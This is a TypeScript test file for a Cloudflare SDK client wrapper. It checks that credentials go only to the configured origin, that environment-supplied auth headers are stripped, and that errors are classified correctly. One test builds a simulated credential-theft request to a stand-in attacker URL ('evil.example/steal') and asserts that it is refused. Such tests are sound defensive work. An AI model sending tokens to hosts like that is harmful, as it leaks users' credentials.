// The SDK client Cloudtop builds: nothing from the process environment decides where the token goes or what else is
// sent, the SDK never retries, times out or logs on its own, and its fetch (the transport) refuses any origin but the
// endpoint's.
import assert from 'node:assert/strict';
import { CloudtopError } from '../../src/core/errors/errors';
import { clearSecretsForTests } from '../../src/core/errors/redact';
import { createTransport } from '../../src/core/transport/transport';
import { CLOUDFLARE_TRANSPORT, SDK_TIMEOUT_MS, createCloudflareClient, toCloudflareError } from '../../src/providers/cloudflare/api';

const ENV = {
  CLOUDFLARE_BASE_URL: 'http://127.0.0.1:9/client/v4',
  CLOUDFLARE_API_KEY: 'leaked-key',
  CLOUDFLARE_EMAIL: 'leak@example.com',
  CLOUDFLARE_API_USER_SERVICE_KEY: 'v1.0-leaked',
  CLOUDFLARE_LOG: 'debug',
};

describe('Cloudflare SDK client', () => {
  let saved: Record<string, string | undefined>;
  beforeEach(() => {
    saved = Object.fromEntries(Object.keys(ENV).map((k) => [k, process.env[k]]));
    Object.assign(process.env, ENV);
  });
  afterEach(() => {
    clearSecretsForTests();
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  it('takes the endpoint, the token and its own limits from Cloudtop only', () => {
    const client = createCloudflareClient('token', 'https://api.example.test/client/v4', fetch);
    assert.equal(client.baseURL, 'https://api.example.test/client/v4');
    assert.equal(client.apiToken, 'token');
    assert.equal(client.apiKey, null);
    assert.equal(client.apiEmail, null);
    assert.equal(client.userServiceKey, null);
    assert.equal(client.maxRetries, 0, 'the collector retries, never the SDK');
    assert.equal(client.timeout, SDK_TIMEOUT_MS, "the transport times each attempt; the SDK's timer must not cut across its retries");
    assert.equal(client.logLevel, 'off');
    assert.equal(typeof client.workers.scripts.list, 'function');
    assert.equal(typeof client.r2.buckets.list, 'function');
  });

  it('refuses to send the token to another origin, without a request', async () => {
    const sent: string[] = [];
    const transport = createTransport({
      cloud: 'cloudflare',
      origins: ['http://127.0.0.1:9'],
      ...CLOUDFLARE_TRANSPORT,
      fetch: (input) => (sent.push(input instanceof Request ? input.url : input.toString()), Promise.resolve(new Response('{}'))),
    });
    const client = createCloudflareClient('token', 'http://127.0.0.1:9/client/v4', transport.fetch);
    const error = await transport
      .run('GET /steal', () => client.get('https://evil.example/steal').asResponse())
      .then(
        () => undefined,
        (e: unknown) => e,
      );
    const converted = toCloudflareError(error, 'GET /steal', Date.now());
    assert.equal(converted.category, 'config');
    assert.match(converted.message, /Refused to send credentials to https:\/\/evil\.example/);
    assert.deepEqual(sent, []);
  });

  it('drops credential headers the environment could add, and sends the token', async () => {
    const seen: Headers[] = [];
    const transport = createTransport({
      cloud: 'cloudflare',
      origins: ['http://127.0.0.1:9'],
      ...CLOUDFLARE_TRANSPORT,
      fetch: (_input, init) => (seen.push(new Headers(init?.headers)), Promise.resolve(new Response('{"success":true,"result":[]}'))),
    });
    const client = createCloudflareClient('cf-test-token-7d1e', 'http://127.0.0.1:9/client/v4', transport.fetch);
    await client.get('/accounts', { headers: { 'X-Auth-Key': 'leaked-key', 'X-Auth-Email': 'leak@example.com' } }).asResponse();
    assert.equal(seen[0]?.get('x-auth-key'), null);
    assert.equal(seen[0]?.get('x-auth-email'), null);
    assert.equal(seen[0]?.get('authorization'), 'Bearer cf-test-token-7d1e');
  });

  it('judges a 200 success:false envelope and GraphQL errors as failures of the request', () => {
    const url = (path: string) => new URL(`https://api.cloudflare.com/client/v4${path}`);
    const rest = CLOUDFLARE_TRANSPORT.inspect!(
      { success: false, errors: [{ code: 971, message: 'Please wait' }], result: null },
      url('/accounts'),
      'GET /accounts',
    );
    assert.ok(rest instanceof CloudtopError && rest.category === 'rate-limit', 'code 971 is the rate limit');
    const graphql = CLOUDFLARE_TRANSPORT.inspect!(
      { data: null, errors: [{ message: 'not authorized for that account' }] },
      url('/graphql'),
      'POST /graphql',
    );
    assert.ok(graphql instanceof CloudtopError && graphql.category === 'permission', 'GraphQL errors are read on /graphql');
    assert.equal(CLOUDFLARE_TRANSPORT.inspect!({ success: true, errors: [], result: [] }, url('/accounts'), 'GET /accounts'), undefined);
    assert.equal(CLOUDFLARE_TRANSPORT.inspect!({ data: {}, errors: null }, url('/graphql'), 'POST /graphql'), undefined);
  });

  it('rejects an endpoint that is not a URL', () => {
    assert.throws(() => createCloudflareClient('token', 'not a url', fetch));
  });
});
